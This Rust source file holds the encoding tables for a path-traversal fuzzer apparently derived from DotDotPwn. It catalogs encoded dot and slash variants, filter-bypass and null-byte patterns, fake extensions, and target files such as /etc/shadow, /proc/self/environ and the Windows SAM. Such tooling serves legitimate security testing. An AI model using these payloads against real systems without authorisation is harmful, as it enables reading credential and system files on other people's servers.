//! Encoding tables for the traversal payload generator (C1).
//!
//! Everything here is a literal, source-embedded catalog: no I/O, no
//! mutation, built once as `'static` data. The catalog is ground truth for
//! the generator's effectiveness; entries must not be silently dropped
//! because downstream tests (here and in `methods::*`) assert presence of
//! characteristic strings.
//!
//! Table contents are seeded from the original DotDotPwn `TraversalEngine`
//! dot/slash catalogs and extended with the full 1-5x URL-encoding levels and
//! literal-separator variants.

/// Semantic equivalents of `..` across encoding levels, case, and validity.
pub const DOTS: &[&str] = &[
    // literal and near-literal
    "..",
    "...", "....",
    ".?", "??", "?.",
    "%5C..",
    ".%2e", "%2e.",
    ".../.",
    "..../",
    // null-byte-in-middle
    ".%00.",
    "..%00",
    "..%01",
    // URL-encoded, 1x-5x
    "%2e%2e",
    "%2E%2E",
    "%2e%2E",
    "%252e%252e",
    "%25252e%25252e",
    "%2525252e%2525252e",
    "%252525252e%252525252e",
    // double-percent oddity
    "%%32%%65%%32%%65",
    // hex-literal oddity
    "0x2e0x2e",
    // UTF-8 overlong (2-byte)
    "%c0%2e%c0%2e",
    "%c0%ae%c0%ae",
    "%c0%5e%c0%5e",
    "%c0%ee%c0%ee",
    "%c0%fe%c0%fe",
    "%c0.%c0.",
    // UTF-8 overlong (3/4/5-byte, invalid but sometimes parsed)
    "%e0%80%ae%e0%80%ae",
    "%f0%80%80%ae%f0%80%80%ae",
    "%f8%80%80%80%ae%f8%80%80%80%ae",
    "%fc%80%80%80%80%ae%fc%80%80%80%80%ae",
    // double URL-encoded overlong
    "%25c0%25ae%25c0%25ae",
    // Unicode percent encoding
    "%uff0e%uff0e",
];

/// Semantic equivalents of `/` and `\` across the same encoding levels.
pub const SLASHES: &[&str] = &[
    // literal
    "/",
    "\\",
    // hex-literal oddity
    "0x2f",
    "0x5c",
    // URL-encoded, 1x-5x
    "%2f",
    "%5c",
    "%252f",
    "%255c",
    "%25252f",
    "%25255c",
    "%2525252f",
    "%2525255c",
    "%252525252f",
    "%252525255c",
    // double-percent oddity
    "%%32%%66",
    "%%35%%63",
    // UTF-8 overlong / invalid encodings
    "%c0%2f",
    "%c0%af",
    "%c0%5c",
    "%c1%9c",
    "%c1%pc",
    "%c0%9v",
    "%c0%qf",
    "%c1%8s",
    "%c1%1c",
    "%c1%af",
    "%bg%qf",
    "%e0%80%af",
    "%f0%80%80%af",
    "%f8%80%80%80%af",
    // double URL-encoded overlong
    "%25c1%259c",
    "%25c0%25af",
    // Unicode percent encoding / homoglyphs
    "%u2215",
    "%u2216",
    "%uEFC8",
    "%uF025",
];

/// Hand-authored bypass strings not synthesizable from the `DOTS x SLASHES`
/// cross product.
pub const SPECIAL_PATTERNS: &[&str] = &[
    "..//", "..///", "..\\\\", "..\\\\\\", "../\\", "..\\/",
    "../\\/", "..\\/\\", "\\../", "/..\\", ".../", "...\\",
    "./../", ".\\..\\", ".//..///", ".\\\\..\\\\", "......///",
    "%2e%c0%ae%5c", "%2e%c0%ae%2f",
];

/// The `....//`-family bypass patterns that survive a single, non-recursive
/// `../`-stripping filter, and their encodings.
pub const NON_RECURSIVE_BYPASS_PATTERNS: &[&str] = &[
    "..%252f",
    "..%255c",
    "....//",
    "....\\/",
    "..../",
    "....\\\\",
    "....%2f%2f",
];

/// Per-family cap: the top-N base non-recursive patterns that participate in
/// the overlap-combination enrichment, to bound the family's output size.
pub const NON_RECURSIVE_TOP_N: usize = 4;

/// Specific target files on Windows systems.
pub const FILES_WINDOWS: &[&str] = &[
    "boot.ini",
    "\\windows\\win.ini",
    "\\windows\\system32\\drivers\\etc\\hosts",
];

/// Specific target files on UNIX-based systems.
pub const FILES_UNIX: &[&str] = &["/etc/passwd", "/etc/issue"];

/// Extra files, included only when `extra_files` is set.
pub const EXTRA_FILES: &[&str] = &["config.inc.php", "web.config"];

/// Richer absolute-path file list for Windows, used by `absolute_path`.
pub const ABS_FILES_WINDOWS: &[&str] = &[
    "C:\\boot.ini",
    "C:\\windows\\win.ini",
    "C:\\windows\\system32\\drivers\\etc\\hosts",
    "C:\\windows\\repair\\sam",
    "C:\\windows\\panther\\unattend.xml",
];

/// Richer absolute-path file list for UNIX, used by `absolute_path`.
pub const ABS_FILES_UNIX: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/issue",
    "/etc/hosts",
    "/proc/self/environ",
];

/// Legitimate directory prefixes used by `path_validation` to escape
/// allow-listed subdirectories, Windows flavor.
pub const PREFIXES_WINDOWS: &[&str] = &["images\\", "uploads\\", "public\\", "static\\"];

/// Legitimate directory prefixes, UNIX flavor.
pub const PREFIXES_UNIX: &[&str] = &["images/", "uploads/", "public/", "static/"];

/// Null-byte encodings used by `null_byte` to defeat extension allow-lists.
pub const NULL_ENCODINGS: &[&str] = &[
    "%00", "%2500", "%%30%%30", "%u0000", "\0", "%c0%80",
];

/// Per-family cap: the top-N null-byte encodings that participate in
/// generation, to bound the family's output size.
pub const NULL_ENCODING_TOP_N: usize = 4;

/// Fake extensions appended after a null-byte encoding to defeat
/// extension-allow-list checks.
pub const FAKE_EXTENSIONS: &[&str] = &[
    ".png", ".jpg", ".gif", ".pdf", ".txt", ".jpeg",
];

/// Per-family cap: the top-N fake extensions that participate in generation.
pub const FAKE_EXTENSION_TOP_N: usize = 3;

/// Default User-Agent strings, used when `ScanConfig::user_agents` is empty.
pub const DEFAULT_USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
    "dotpath-fuzz/0.1",
];

/// Default FTP credentials, used when no `Credentials` are supplied.
pub const DEFAULT_FTP_USER: &str = "anonymous";
pub const DEFAULT_FTP_PASS: &str = "dot@dot.pwn";

/// Response body preview size cap shared by all protocol probes (1 MiB).
pub const RESPONSE_CAP: usize = 1 << 20;
